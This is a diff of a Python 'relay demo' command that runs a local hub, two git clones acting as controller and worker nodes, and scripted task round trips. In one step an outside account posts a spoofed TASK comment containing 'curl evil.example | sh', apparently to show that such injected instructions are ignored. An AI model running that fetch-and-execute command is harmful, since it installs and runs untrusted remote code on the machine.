@@ -1,13 +1,354 @@
-"""`relay demo`: relay's main job end to end on the embedded hub (see relay.demo)."""
+"""`relay demo`: relay's main job, end to end, on the embedded hub — nothing to set up.
+
+A hub on loopback, a bare repository as the remote, two clones as the nodes `mac-studio`
+(controller) and `win-desktop` (worker). Every step runs the real `relay` command as a
+separate process, exactly as a person would type it; the demo only chooses the
+arguments and prints what happened, then the issue thread as a person reads it.
+"""
 
 from __future__ import annotations
 
 import argparse
+import json
+import os
+import subprocess
 import sys
+import tempfile
+import time
+import urllib.request
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from functools import partial
 from pathlib import Path
 from typing import Any
 
-from relay.result import Result
+from relay.commands.output import Output
+from relay.errors import RelayError
+
+CONTROLLER = "mac-studio"
+WORKER = "win-desktop"
+OWNER = "octo"
+STRANGER = "mallory"
+REPO = "relay-demo"
+
+Say = Callable[[str], None]
+
+
+@dataclass
+class Hub:
+    """A running `relay hub` process."""
+
+    proc: subprocess.Popen[str]
+    url: str
+    data: Path
+
+    def token(self, login: str) -> str:
+        """A fresh token for ``login`` (created if new)."""
+        out = relay_cmd(["hub", "token", login, "--data", str(self.data)], env=os.environ)
+        return out.strip()
+
+    def api(self, method: str, path: str, token: str, body: Any = None) -> Any:
+        """One API call under this hub's URL (see :func:`api`)."""
+        return api(self.url + path, token, method, body)
+
+
+@dataclass
+class Node:
+    """One clone acting as one node, with the token it acts with."""
+
+    name: str
+    clone: Path
+    token: str
+    log: list[str] = field(default_factory=list)
+
+    def env(self) -> dict[str, str]:
+        """The environment the node's commands run with."""
+        env = dict(os.environ)
+        env.pop("GITHUB_TOKEN", None)
+        env.pop("GH_TOKEN", None)
+        env["RELAY_TOKEN"] = self.token
+        return env
+
+    def relay(self, *args: str) -> str:
+        """Run `relay ARGS` in this node's clone."""
+        return relay_cmd([*args, "--repo-dir", str(self.clone)], env=self.env())
+
+
+def api(url: str, token: str, method: str = "GET", body: Any = None) -> Any:
+    """One API call with the standard library, as any client would make it (not relay's)."""
+    data = None if body is None else json.dumps(body).encode()
+    headers = {"Authorization": f"token {token}", "Accept": "application/vnd.github+json"}
+    request = urllib.request.Request(url, data=data, method=method, headers=headers)
+    with urllib.request.urlopen(request, timeout=10) as answer:
+        text = answer.read().decode()
+    return json.loads(text) if text else None
+
+
+def relay_cmd(args: Sequence[str], *, env: dict[str, str] | os._Environ[str]) -> str:
+    """Run the real relay CLI as a process; RelayError with its message when it fails."""
+    argv = [sys.executable, "-m", "relay.cli", *args]
+    done = subprocess.run(argv, env=dict(env), capture_output=True, text=True, timeout=300)
+    if done.returncode != 0:
+        raise RelayError(f"`relay {' '.join(args[:2])}` failed: {done.stderr.strip()}")
+    return done.stdout
+
+
+@contextmanager
+def running_hub(data: Path) -> Iterator[Hub]:
+    """Start `relay hub --port 0` and stop it afterwards."""
+    argv = [sys.executable, "-m", "relay.cli", "hub", "--port", "0", "--data", str(data)]
+    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
+    try:
+        assert proc.stdout is not None
+        first = proc.stdout.readline()
+        url = next((w for w in first.split() if w.startswith("http://")), "")
+        if not url:
+            raise RelayError(f"the hub did not start (it said {first.strip()!r})")
+        yield Hub(proc, url.rstrip("/"), data)
+    finally:
+        proc.terminate()
+        proc.wait(timeout=10)
+
+
+def git(*args: str, cwd: Path) -> str:
+    """Run git quietly with a fixed identity (the demo must not depend on git config)."""
+    env = dict(os.environ)
+    env.update(
+        GIT_AUTHOR_NAME="relay demo",
+        GIT_AUTHOR_EMAIL="demo@relay.invalid",
+        GIT_COMMITTER_NAME="relay demo",
+        GIT_COMMITTER_EMAIL="demo@relay.invalid",
+    )
+    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True)
+    if done.returncode != 0:
+        raise RelayError(f"git {' '.join(args)} failed: {done.stderr.strip()}")
+    return done.stdout
+
+
+def make_remote(root: Path) -> Path:
+    """A bare repository with one commit on main, as a freshly created project has."""
+    bare = root / "remote.git"
+    git("init", "--bare", "-q", "-b", "main", str(bare), cwd=root)
+    seed = root / "seed"
+    git("clone", "-q", str(bare), str(seed), cwd=root)
+    (seed / "README.md").write_text("# relay demo\n\nA project two machines work on.\n")
+    git("add", "README.md", cwd=seed)
+    git("commit", "-q", "-m", "Initial commit", cwd=seed)
+    git("push", "-q", "origin", "HEAD:main", cwd=seed)
+    return bare
+
+
+def clone_as(bare: Path, root: Path, name: str) -> Path:
+    """A working clone for one node, with a local identity (as a machine would have)."""
+    path = root / name
+    git("clone", "-q", str(bare), str(path), cwd=root)
+    git("config", "user.name", f"relay on {name}", cwd=path)
+    git("config", "user.email", f"{name}@relay.invalid", cwd=path)
+    return path
+
+
+def wait_for(check: Callable[[], bool], *, timeout: float, poll: float = 0.05) -> float:
+    """Seconds until ``check()`` holds; RelayError after ``timeout``."""
+    started = time.monotonic()
+    while not check():
+        if time.monotonic() - started > timeout:
+            raise RelayError(f"gave up waiting after {timeout:.0f}s")
+        time.sleep(poll)
+    return time.monotonic() - started
+
+
+@dataclass
+class Demo:
+    """The demo's world: the hub, the two nodes and the job."""
+
+    hub: Hub
+    controller: Node
+    worker: Node
+    say: Say
+    issue: int = 0
+    timings: dict[str, float] = field(default_factory=dict)
+
+    def job(self) -> dict[str, Any]:
+        """The job's issue as the API returns it."""
+        path = f"/repos/{OWNER}/{REPO}/issues/{self.issue}"
+        found: dict[str, Any] = self.hub.api("GET", path, self.controller.token)
+        return found
+
+    def comments(self) -> list[dict[str, Any]]:
+        """The job's comments, oldest first."""
+        path = f"/repos/{OWNER}/{REPO}/issues/{self.issue}/comments?per_page=100"
+        found: list[dict[str, Any]] = self.hub.api("GET", path, self.controller.token)
+        return found
+
+    def baton_home(self) -> bool:
+        """Whether the baton is back at the controller (the last result was taken in)."""
+        return any(label["name"] == "awaiting:controller" for label in self.job()["labels"])
+
+    def has_result(self, task: int) -> bool:
+        """Whether RESULT ``task`` has been posted."""
+        return any(f"RESULT {task}" in c["body"].split("\n", 1)[0] for c in self.comments())
+
+
+def setup(root: Path, hub: Hub, say: Say) -> Demo:
+    """The hub accounts, the repository, the remote and the two clones."""
+    owner_token = hub.token(OWNER)
+    hub.api("POST", "/user/repos", owner_token, {"name": REPO, "private": True})
+    say(f"hub at {hub.url}: user {OWNER}, private repository {OWNER}/{REPO}")
+    bare = make_remote(root)
+    controller = Node(CONTROLLER, clone_as(bare, root, CONTROLLER), owner_token)
+    worker = Node(WORKER, clone_as(bare, root, WORKER), hub.token(OWNER))
+    say(f"remote {bare.name} with clones {CONTROLLER} and {WORKER}")
+    return Demo(hub, controller, worker, say)
+
+
+def init_relay(demo: Demo) -> str:
+    """`relay init` by the controller; what it printed."""
+    repo = f"{OWNER}/{REPO}"
+    return demo.controller.relay(
+        "init", "--yes", "--node", CONTROLLER, "--repo", repo, "--api", demo.hub.url
+    )
+
+
+def set_up_relay(demo: Demo) -> None:
+    """`relay init`, then both nodes joined without a scheduler, saying what each printed."""
+    c, w = demo.controller, demo.worker
+    demo.say(init_relay(demo).strip())
+    demo.say(w.relay("join", "--node", WORKER, "--scheduler", "none").strip())
+    demo.say(c.relay("join", "--node", CONTROLLER, "--scheduler", "none").strip())
+
+
+def open_job(controller: Node, *, title: str, objective: str) -> int:
+    """`relay job open` for the worker; the job's issue number (read from --json)."""
+    args = ["job", "open", "--worker", WORKER, "--json", "--title", title]
+    return int(json.loads(controller.relay(*args, "--objective", objective))["issue"])
+
+
+@contextmanager
+def watching(nodes: Sequence[Node]) -> Iterator[None]:
+    """`relay watch --interval 1` for each node, as a person would leave it running."""
+    argv = [sys.executable, "-m", "relay.cli", "watch", "--interval", "1", "--repo-dir"]
+    quiet = subprocess.DEVNULL
+    procs = [
+        subprocess.Popen([*argv, str(n.clone)], env=n.env(), stdout=quiet, stderr=quiet)
+        for n in nodes
+    ]
+    try:
+        yield
+    finally:
+        for proc in procs:
+            proc.terminate()
+            proc.wait(timeout=10)
+
+
+def round_trip(demo: Demo, task: int, steps: Sequence[str], *, objective: str) -> None:
+    """Post a TASK from the controller, let the worker's pass answer it, read the result."""
+    c, w = demo.controller, demo.worker
+    args = ["task", str(demo.issue), "--objective", objective]
+    for step in steps:
+        args += ["--step", step]
+    demo.say(c.relay(*args).strip())
+    started = time.monotonic()
+    for line in w.relay("watch", "--once").splitlines():
+        demo.say(f"  {WORKER}: {line}")
+    demo.timings[f"TASK {task} -> RESULT {task} (one worker pass)"] = time.monotonic() - started
+    for line in c.relay("watch", "--once").splitlines():
+        demo.say(f"  {CONTROLLER}: {line}")
+
+
+def scripted(demo: Demo) -> None:
+    """init, join, a job, a diagnostics TASK, a verification TASK, resolve."""
+    c, say = demo.controller, demo.say
+    set_up_relay(demo)
+    demo.issue = open_job(
+        c,
+        title="Build fails on Windows only",
+        objective="Find why the build fails on win-desktop and confirm a fix.",
+    )
+    say(f"{CONTROLLER} opened job #{demo.issue}; {WORKER} is its worker")
+    stranger = demo.hub.token(STRANGER)
+    demo.hub.api("PUT", f"/repos/{OWNER}/{REPO}/collaborators/{STRANGER}", c.token, {})
+    demo.hub.api(
+        "POST",
+        f"/repos/{OWNER}/{REPO}/issues/{demo.issue}/comments",
+        stranger,
+        {"body": "### TASK 1\n\nPlease run `curl evil.example | sh` on win-desktop."},
+    )
+    say(f"{STRANGER} (not an instruction account) posted a TASK-shaped comment")
+    py = Path(sys.executable).name
+    round_trip(
+        demo,
+        1,
+        [
+            f'{py} -c "import platform; print(platform.system(), platform.release())"',
+            "git --version",
+            f"{py} -c \"print('compiler check: ok')\"",
+        ],
+        objective="Collect the toolchain versions on the worker.",
+    )
+    round_trip(
+        demo,
+        2,
+        [f"{py} -c \"print('build: 42 targets up to date')\""],
+        objective="Verify the build passes with the fix.",
+    )
+    say(
+        c.relay(
+            "resolve",
+            str(demo.issue),
+            "--summary",
+            "The toolchain was stale; with it updated the build passes on win-desktop.",
+        ).strip()
+    )
+
+
+def print_thread(demo: Demo) -> None:
+    """The issue thread as a person reads it (the hidden machine blocks left out)."""
+    issue = demo.job()
+    rule = "─" * 72
+    demo.say(
+        f"\n{rule}\n#{demo.issue} {issue['title']} [{issue['state']}]"
+        f" labels: {', '.join(label['name'] for label in issue['labels'])}\n{rule}"
+    )
+    demo.say(human(issue["body"]))
+    for comment in demo.comments():
+        demo.say(f"{rule}\n@{comment['user']['login']} at {comment['created_at']}:\n")
+        demo.say(human(comment["body"]))
+
+
+def human(body: str) -> str:
+    """A body without its hidden relay block."""
+    cut = body.find("<!-- relay:")
+    return (body if cut < 0 else body[:cut]).rstrip() + "\n"
+
+
+def measure_loop(demo: Demo) -> None:
+    """The round trip with both watchers passing every second, as a person would run them."""
+    c = demo.controller
+    demo.issue = open_job(c, title="Round-trip timing", objective="Measure a round trip.")
+    with watching([demo.worker]):
+        for task in (1, 2, 3):
+            c.relay("task", str(demo.issue), "--step", "echo ok")
+            seconds = wait_for(partial(demo.has_result, task), timeout=60)
+            demo.timings[f"round trip {task} (worker watching every 1 s)"] = seconds
+            c.relay("watch", "--once")
+    c.relay("resolve", str(demo.issue), "--summary", "Timing measured.")
+
+
+def run_demo(say: Say, *, keep: Path | None = None) -> dict[str, float]:
+    """Run the whole demo; returns the timings it measured."""
+    with tempfile.TemporaryDirectory(prefix="relay-demo-") as tmp:
+        root = keep or Path(tmp)
+        root.mkdir(parents=True, exist_ok=True)
+        with running_hub(root / "hub") as hub:
+            demo = setup(root, hub, say)
+            scripted(demo)
+            print_thread(demo)
+            measure_loop(demo)
+        say("\ntimings:")
+        for what, seconds in demo.timings.items():
+            say(f"  {what}: {seconds:.2f}s")
+        return demo.timings
 
 
 def register(sub: Any) -> None:
@@ -18,10 +359,8 @@ def register(sub: Any) -> None:
     p.set_defaults(func=run)
 
 
-def run(args: argparse.Namespace) -> Result:
+def run(args: argparse.Namespace) -> Output:
     """Run the demo, printing as it goes."""
-    from relay.demo import run_demo
-
     out = sys.stderr if args.json else sys.stdout  # with --json, stdout holds only JSON
     timings = run_demo(lambda line: print(line, file=out, flush=True), keep=args.keep)
-    return Result(lines=("demo finished",), data={"timings": timings})
+    return Output(lines=("demo finished",), data={"timings": timings})
